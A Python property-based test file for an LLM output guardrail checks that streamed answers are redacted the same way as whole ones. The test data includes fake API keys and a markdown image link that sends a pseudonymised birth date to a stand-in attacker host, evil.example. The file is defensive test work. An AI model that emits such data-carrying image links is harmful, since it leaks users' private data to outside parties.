"""Streamed answers come out exactly as whole ones do, for any split into chunks: pseudonyms
restored, secrets redacted and exfiltration links neutralized, with nothing held back from
plain text."""

from __future__ import annotations

from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from portway.guardrails.base import GuardSession
from portway.guardrails.outputs import StreamGuard, check_output_text
from portway.guardrails.pii import PiiGuardrail
from portway.guardrails.policy import ActivePolicy
from portway.guardrails.sanitize import SanitizeGuardrail
from portway.guardrails.secrets import SecretsGuardrail

PROMPT = "mail bob@example.com, wallet 1BoatSLRHtKNngkdXEeobR76b53LETtpyT, born on 12/03/1980"
POLICIES = (
    ActivePolicy(PiiGuardrail(), "redact", "both"),
    ActivePolicy(SecretsGuardrail(), "redact", "output"),
    ActivePolicy(
        SanitizeGuardrail().configured({"allowed_hosts": ["ok.example"]}), "redact", "output"
    ),
)


def session() -> GuardSession:
    guarded = GuardSession()
    PiiGuardrail().check_input(PROMPT, "redact", guarded)
    return guarded


def chunk(text: str, finish: str | None = None) -> dict[str, Any]:
    delta = {"content": text} if text else {}
    return {"id": "c", "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]}


def streamed(answer: str, cuts: list[int]) -> str:
    bounds = sorted({min(cut, len(answer)) for cut in cuts})
    pieces = [answer[a:b] for a, b in zip([0, *bounds], [*bounds, len(answer)], strict=True)]
    guard = StreamGuard(POLICIES, session())
    out = [guard.chunk(chunk(piece)) for piece in pieces]
    out.append(guard.chunk(chunk("", "stop")))
    return "".join(c["choices"][0]["delta"].get("content") or "" for c in out)


@given(
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=16),
    # No lone surrogates: no text Portway handles can hold one (orjson refuses them in
    # every JSON body and upstream chunk; the local model's bytes are decoded as UTF-8).
    noise=st.text(
        alphabet=st.characters(blacklist_characters="<[!", blacklist_categories=("Cs",)),
        max_size=40,
    ),
)
def test_any_split_gives_the_whole_answer(cuts: list[int], noise: str) -> None:
    answer = (
        f"{noise} Hi <EMAIL_1>, your wallet <CRYPTO_WALLET_1>; "
        "key sk-proj-Zx8Qp2Lm9Rt4Vb7Nc3KdWq5Ey, api_key = 'q8Zr2LxP0vN7mW4kT1yB6cH3' "
        "![pixel](https://evil.example/p.png?d=<DATE_OF_BIRTH_1>) [docs](https://ok.example/x) "
        f"and <EMAIL_1{noise}"
    )
    whole = check_output_text(answer, POLICIES, session())
    assert streamed(answer, cuts) == whole
    assert "bob@example.com" in whole and "sk-proj" not in whole and "q8Zr2" not in whole
    assert "evil.example/p.png" not in whole and "https://ok.example/x" in whole


def test_plain_text_is_not_held_back() -> None:
    guard = StreamGuard(POLICIES, session())
    shown = guard.chunk(chunk("Plain words, shown at once"))
    # Only the last word waits (it may be the start of a token).
    assert shown["choices"][0]["delta"]["content"] == "Plain words, shown at "
